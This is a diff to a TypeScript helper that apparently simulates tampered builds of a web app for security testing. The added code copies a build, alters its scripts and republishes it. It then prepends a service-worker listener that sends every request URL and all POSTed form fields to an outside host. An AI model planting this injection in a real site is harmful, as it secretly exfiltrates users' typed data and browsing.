@@ -1,4 +1,8 @@
 // Leaks to plant into a build, as somebody might who wants the words: each sends what is typed, by one way out of the page.
+import { cpSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+
+import { NOW } from "./builds";
 import type { Alter } from "./site";
 
 /** Sends a text away. It runs in the page, and knows nothing but its arguments. */
@@ -77,6 +81,43 @@ export function planted(leaks: Record<string, Leak>, elsewhere: string, seal: Se
     const unnamed = text.replace(/ integrity="[^"]*"/g, "");
     return Buffer.from(seal === "on" ? unnamed : unnamed.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ""));
   };
+}
+
+/** The same as a whole build in a folder, with names and hashes of its own and so with its worker, into which leaks are planted too. */
+export async function plantedBuild(folder: string, alter: Alter, inWorker: readonly WorkerLeak[], elsewhere: string): Promise<string> {
+  cpSync("dist", folder, { recursive: true });
+  for (const name of readdirSync(folder).filter((name) => /^(boot.*\.js|index\.html)$/.test(name))) {
+    const altered = alter(name, readFileSync(join(folder, name)));
+    if (!Buffer.isBuffer(altered)) throw new Error(`${name} is to be there`);
+    writeFileSync(join(folder, name), altered);
+  }
+  const { publish } = await import("../../xtask/site.mjs");
+  await publish(folder, `# Changelog\n\n## ${NOW}\n\n- A leak.\n`);
+  plantInWorker(folder, inWorker, elsewhere);
+  return folder;
+}
+
+/** Sends what reaches the worker away. It runs there, and knows nothing but its arguments. */
+export type WorkerLeak = (request: Request, elsewhere: string) => unknown;
+
+/** What a worker could betray: what it is asked for, and what another app shares. */
+export const FROM_WORKER = {
+  "asked": (request, elsewhere) => fetch(`${elsewhere}?${encodeURIComponent(request.url)}`, { mode: "no-cors" }),
+  "shared": async (request, elsewhere) => {
+    if (request.method !== "POST") return;
+    const fields = [...(await request.formData()).values()];
+    const texts = await Promise.all(fields.map((field) => (typeof field === "string" ? field : field.text())));
+    await fetch(elsewhere, { method: "POST", mode: "no-cors", body: texts.join("\n") });
+  },
+} satisfies Record<string, WorkerLeak>;
+
+/** Puts leaks before the worker of the build in a folder. The list of its files does not name itself. */
+export function plantInWorker(folder: string, leaks: readonly WorkerLeak[], elsewhere: string) {
+  if (leaks.length === 0) return;
+  const script = join(folder, "sw.js");
+  const each = leaks.map((leak) => `(${leak})(event.request.clone(), ${JSON.stringify(`${elsewhere}worker`)})`);
+  const spy = `addEventListener("fetch", (event) => event.waitUntil(Promise.allSettled([${each.join(", ")}])));`;
+  writeFileSync(script, `${spy}\n${readFileSync(script, "utf8")}`);
 }
 
 /**
